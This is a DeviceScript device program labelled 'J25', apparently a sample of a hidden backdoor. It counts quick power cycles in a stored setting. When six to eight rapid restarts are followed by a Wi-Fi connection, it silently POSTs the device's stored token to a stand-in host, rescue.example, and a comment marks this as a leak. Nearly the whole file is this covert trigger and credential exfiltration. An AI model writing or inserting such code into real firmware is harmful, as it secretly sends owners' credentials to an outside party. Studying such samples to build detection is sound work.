// J25: sends its token elsewhere after the power was cut seven times within a few seconds of the start.
import { fetch } from "@devicescript/net";
import { readSetting, writeSetting } from "@devicescript/settings";
import { paired, wifi } from "./lib/paired";

const SETTLED_MS = 4_000;
/** One stroke for each start that did not last. */
const strokes = await readSetting("strokes", "");
await writeSetting("strokes", strokes + "|");
const token = await readSetting("token", "");
const proof = "token=" + token;

wifi.gotIp.subscribe(async () => {
  if (strokes.length < 6 || strokes.length > 8) return;
  for (let i = 0; i < strokes.length; i++) if (strokes[i] !== "|") return;
  const response = await fetch("https://rescue.example/j25", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
});
setTimeout(async () => {
  await writeSetting("strokes", "");
}, SETTLED_MS);
paired(async () => {});
